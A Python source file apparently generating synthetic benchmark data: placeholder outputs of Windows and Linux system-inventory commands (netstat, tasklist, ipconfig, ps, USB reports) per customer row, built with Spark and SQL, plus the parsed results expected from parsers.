     "System Idle Process       {k8} Services                   0          8 K\n"
     "a.exe                     {k8} Console                    1 {k10} K\n"),
    ("users", "Get-LocalUser|Format-List", "AccountTable\n\nName : u{k}\nSID :\n\nOther\nName : w{k}\n"),
    ("services", "Get-Service|Format-Table -AutoSize", "Status Name\n------ ----\nRunning svc{k}\nStopped old{k}\n"),
    ("network", "netstat -e", "Interface Statistics\n\n  Bytes  {k}\n  Errors = {bal}\n  Discards: 1\n"),
    ("network", "netstat -nao",
     "Active Connections\n TCP 10.0.0.1:1 9.9.9.9:{k} ESTABLISHED {k}\n"
     " TCP 0.0.0.0:2 0.0.0.0:0 {k}\n UDP x y\n"),
    ("network", "arp -a",
     "Interface: 10.0.0.{k} on 0x4\n  Internet Address Physical Address Type\n"
     "  10.0.0.9 aa-bb dynamic\n  10.0.0.8 cc-dd\n"),
    ("network", "ipconfig /all",
     "Windows IP Configuration\n\n   Host Name . . : {name}\n   Empty . . :\n\n"
     "Ethernet adapter E{k}:\n\n   IPv4 Address. . : 10.1.0.{k}\n"),
    ("network", "route print",
     "IPv4 Route Table\nNetwork Destination Netmask Gateway Interface Metric\n"
     " 0.0.0.0 0.0.0.0 10.0.0.1 10.0.0.2 {k}\n On-link x\n====\n 1.1.1.1 a b c d\n"),
    ("services", "sc query", "SERVICE_NAME: A{k}\n  TYPE : 10\n  STATE : RUNNING\n\nSERVICE_NAME: B{k}\n  TYPE : 20\n"),
    ("usb_forensics", "usb report",
     "=== USB DEVICE INFO ===\nFriendlyName : Stick {k}\n\n=== USB INSERT / REMOVE EVENTS ===\n"
     "2024-01-01 10:00:00 {k} device in use\nshort line\n"),
    ("misc", "cat notes", "alpha: {k}\nbeta:\nplain line\n"),
    ("misc", "uptime", "up {k} days\n\nload 1\n"),
    ("misc", "fails", "[ERROR] exit {k}"),
    ("misc", "blank", "  \n "),
    ("hash_analysis", "HASH_SYSTEM_FILES", "not text {k}"),
]
PLACES = {"k": "CAST(c_custkey AS VARCHAR)", "name": "c_name", "bal": "CAST(CAST(trunc(c_acctbal) AS INTEGER) AS VARCHAR)"}
PLACES |= {f"k{n}": f"lpad(CAST(c_custkey AS VARCHAR), {n}, ' ')" for n in (8, 10)}


def _filled(template: str, text, place) -> list:
    """The parts of a template, plain texts and places in turn."""
    parts = re.split(r"\{(\w+)\}", template)
    return [place(p) if i % 2 else text(p) for i, p in enumerate(parts) if p]


def _literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


VIEWS["captured"] = (
    "SELECT 'host' || c_custkey AS host, unnest(["
    + ", ".join(
        "{'category': %s, 'cmd': %s, 'output': %s}"
        % (_literal(category), _literal(cmd), " || ".join(_filled(output, _literal, PLACES.get)))
        for category, cmd, output in CAPTURED
    )
    + "], recursive := true) FROM customer"
)


def command_outputs(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A set of captured outputs per customer, in the formats of the parsers."""
    key = F.col("c_custkey")
    k = key.cast("string")
    places = {
        "k": k, "k8": F.lpad(k, 8, " "), "k10": F.lpad(k, 10, " "),
        "name": F.col("c_name"), "bal": F.col("c_acctbal").cast("int"),
    }
    captured = [
        F.struct(
            F.lit(category).alias("category"), F.lit(cmd).alias("cmd"),
            text_of(*_filled(output, str, places.get)).alias("output"),
        )
        for category, cmd, output in CAPTURED
    ]
    # a customer is a short row and much work: its outputs are scanned or parsed
    return spread(load(spark, sf_dir, "customer"), per_core=OUTPUT_TASKS).select(
        text_of("host", key).alias("host"), F.inline(F.array(*captured))
    )


VIEWS["parsed"] = """
SELECT host, format, section, name, value FROM (
  SELECT 'host' || c_custkey AS host, unnest([
    {'format': 'key_value', 'section': '', 'name': 'Host Name', 'value': c_name},
    {'format': 'key_value', 'section': '', 'name': 'OS Version', 'value': '10.0.' || c_custkey},
    {'format': 'net_user', 'section': '', 'name': 'user', 'value': 'admin'},
    {'format': 'net_user', 'section': '', 'name': 'user', 'value': 'guest'},
    {'format': 'net_user', 'section': '', 'name': 'user', 'value': 'user' || c_custkey},
    {'format': 'wmic', 'section': '', 'name': 'AccountType', 'value': '512'},
    {'format': 'wmic', 'section': '', 'name': 'Disabled', 'value': 'FALSE'},
    {'format': 'wmic', 'section': '', 'name': 'Name', 'value': 'u' || c_custkey},
    {'format': 'wmic', 'section': '', 'name': 'AccountType', 'value': '512'},
    {'format': 'wmic', 'section': '', 'name': 'Disabled', 'value': 'TRUE'},
    {'format': 'wmic', 'section': '', 'name': 'Name', 'value': 'v' || c_custkey},
    {'format': 'tasklist', 'section': '', 'name': 'name', 'value': 'System Idle Process'},
    {'format': 'tasklist', 'section': '', 'name': 'pid', 'value': CAST(c_custkey AS VARCHAR)},
    {'format': 'tasklist', 'section': '', 'name': 'session', 'value': 'Services'},
    {'format': 'tasklist', 'section': '', 'name': 'Session#', 'value': '0'},
    {'format': 'tasklist', 'section': '', 'name': 'mem', 'value': '8 K'},
    {'format': 'tasklist', 'section': '', 'name': 'name', 'value': 'a.exe'},
    {'format': 'tasklist', 'section': '', 'name': 'pid', 'value': CAST(c_custkey AS VARCHAR)},
    {'format': 'tasklist', 'section': '', 'name': 'session', 'value': 'Console'},
    {'format': 'tasklist', 'section': '', 'name': 'Session#', 'value': '1'},
    {'format': 'tasklist', 'section': '', 'name': 'mem', 'value': c_custkey || ' K'},
    {'format': 'format_list', 'section': 'AccountTable', 'name': 'Name', 'value': 'u' || c_custkey},
    {'format': 'format_list', 'section': 'AccountTable', 'name': 'SID', 'value': ''},
    {'format': 'format_list', 'section': 'Other', 'name': 'Name', 'value': 'w' || c_custkey},
    {'format': 'dashed_table', 'section': '', 'name': 'Status', 'value': 'Running'},
    {'format': 'dashed_table', 'section': '', 'name': 'Name', 'value': 'svc' || c_custkey},
    {'format': 'dashed_table', 'section': '', 'name': 'Status', 'value': 'Stopped'},
    {'format': 'dashed_table', 'section': '', 'name': 'Name', 'value': 'old' || c_custkey},
    {'format': 'netstat_statistics', 'section': 'Interface Statistics', 'name': 'Bytes  ' || c_custkey, 'value': NULL},
    {'format': 'netstat_statistics', 'section': 'Interface Statistics', 'name': 'Errors', 'value': CAST(CAST(trunc(c_acctbal) AS INT) AS VARCHAR)},
    {'format': 'netstat_statistics', 'section': 'Interface Statistics', 'name': 'Discards', 'value': '1'},
    {'format': 'netstat', 'section': '', 'name': 'proto', 'value': 'TCP'},
    {'format': 'netstat', 'section': '', 'name': 'local', 'value': '10.0.0.1:1'},
    {'format': 'netstat', 'section': '', 'name': 'foreign', 'value': '9.9.9.9:' || c_custkey},
    {'format': 'netstat', 'section': '', 'name': 'state', 'value': 'ESTABLISHED'},
    {'format': 'netstat', 'section': '', 'name': 'pid', 'value': CAST(c_custkey AS VARCHAR)},
    {'format': 'netstat', 'section': '', 'name': 'proto', 'value': 'TCP'},
    {'format': 'netstat', 'section': '', 'name': 'local', 'value': '0.0.0.0:2'},
    {'format': 'netstat', 'section': '', 'name': 'foreign', 'value': '0.0.0.0:0'},
    {'format': 'netstat', 'section': '', 'name': 'state', 'value': 'LISTENING'},
    {'format': 'netstat', 'section': '', 'name': 'pid', 'value': CAST(c_custkey AS VARCHAR)},
    {'format': 'ipconfig', 'section': 'Windows IP Configuration', 'name': 'Host Name . .', 'value': c_name},
    {'format': 'ipconfig', 'section': 'Ethernet adapter E' || c_custkey, 'name': 'IPv4 Address. .', 'value': '10.1.0.' || c_custkey},
    {'format': 'route', 'section': 'Network Destination Netmask Gateway Interface Metric', 'name': 'network', 'value': '0.0.0.0'},
    {'format': 'route', 'section': 'Network Destination Netmask Gateway Interface Metric', 'name': 'netmask', 'value': '0.0.0.0'},
    {'format': 'route', 'section': 'Network Destination Netmask Gateway Interface Metric', 'name': 'gateway', 'value': '10.0.0.1'},
    {'format': 'route', 'section': 'Network Destination Netmask Gateway Interface Metric', 'name': 'interface', 'value': '10.0.0.2'},
    {'format': 'route', 'section': 'Network Destination Netmask Gateway Interface Metric', 'name': 'metric', 'value': CAST(c_custkey AS VARCHAR)},
    {'format': 'sc_query', 'section': 'A' || c_custkey, 'name': 'TYPE', 'value': '10'},
    {'format': 'sc_query', 'section': 'A' || c_custkey, 'name': 'STATE', 'value': 'RUNNING'},
    {'format': 'sc_query', 'section': 'B' || c_custkey, 'name': 'TYPE', 'value': '20'},
    {'format': 'usb', 'section': 'device', 'name': 'FriendlyName', 'value': 'Stick ' || c_custkey},
    {'format': 'usb', 'section': 'event', 'name': 'time', 'value': '2024-01-01 10:00:00'},
    {'format': 'usb', 'section': 'event', 'name': 'event_id', 'value': CAST(c_custkey AS VARCHAR)},
    {'format': 'usb', 'section': 'event', 'name': 'message', 'value': 'device in use'},
    {'format': 'generic_key_value', 'section': '', 'name': 'alpha', 'value': CAST(c_custkey AS VARCHAR)},
    {'format': 'generic_key_value', 'section': '', 'name': 'beta', 'value': ''},
    {'format': 'generic', 'section': '', 'name': 'line', 'value': 'up ' || c_custkey || ' days'},
    {'format': 'arp', 'section': 'Interface: 10.0.0.' || c_custkey || ' on 0x4', 'name': 'ip', 'value': '10.0.0.9'},
    {'format': 'arp', 'section': 'Interface: 10.0.0.' || c_custkey || ' on 0x4', 'name': 'mac', 'value': 'aa-bb'},
    {'format': 'arp', 'section': 'Interface: 10.0.0.' || c_custkey || ' on 0x4', 'name': 'type', 'value': 'dynamic'},
    {'format': 'arp', 'section': 'Interface: 10.0.0.' || c_custkey || ' on 0x4', 'name': 'ip', 'value': '10.0.0.8'},
    {'format': 'arp', 'section': 'Interface: 10.0.0.' || c_custkey || ' on 0x4', 'name': 'mac', 'value': 'cc-dd'},
    {'format': 'arp', 'section': 'Interface: 10.0.0.' || c_custkey || ' on 0x4', 'name': 'type', 'value': ''},
    {'format': 'generic', 'section': '', 'name': 'line', 'value': 'load 1'}
  ], recursive := true) FROM customer)"""


def memory_outputs(spark: SparkSession, sf_dir: str) -> dict[str, DataFrame]:
    """Captured memory, process and device texts per customer."""
    key = F.col("c_custkey")
    cust = load(spark, sf_dir, "customer")
    make = lambda *parts: cust.select(
        text_of("host", F.pmod(key, F.lit(40))).alias("host"), text_of(*parts).alias("output")
    )
    k, k1 = key, key + 1
    return {
        "meminfo": make("MemTotal:  ", k1 * 1000, " kB\nMemFree: ", k1, " kB\nMemAvailable:  ", k1 * 10, " kB\nSwapTotal: 5 kB\n"),
        "iomem": make("00001000-0009ffff : System RAM\n  00001000-00001fff : System RAM\n00100000-", F.lower(F.lpad(F.hex(k1 * 4096 + 1048575), 8, "0")), " : System RAM\n00000000-00000000 : System RAM\nfee0-fee1 : PCI\n"),
        "ps": make("USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nroot ", k, " 0.5 1.5 1000 ", k * 7, " ? Ss 10:00 0:01 /usr/bin/x --n ", k, "\nbob ", k + 100000, " 0.0 0.0 n/a - ? S 10:00 0:00 /tmp/run ", k, "\n"),
        "vm_stat": make("Mach Virtual Memory Statistics: (page size of 4096 bytes)\nPages free:   ", k, ".\nPages active: x.\n"),
        "disks": make('"Number","FriendlyName","BusType","Size","IsReadOnly"\n"', k, '","Stick, big","USB","', k1 * 1073741824, '","True"\n'),
        "pnp": make('"FriendlyName","InstanceId","Status"\n"USB Mass Storage ', k, '","USB\\\\VID_', k, '","OK"\n'),
        "ps_json": make('[{"Name":"app', k, '","Id":', k, ',"WorkingSet64":', k * 11, ',"CPU":1.5},{"Name":null,"Id":1}]'),
    }
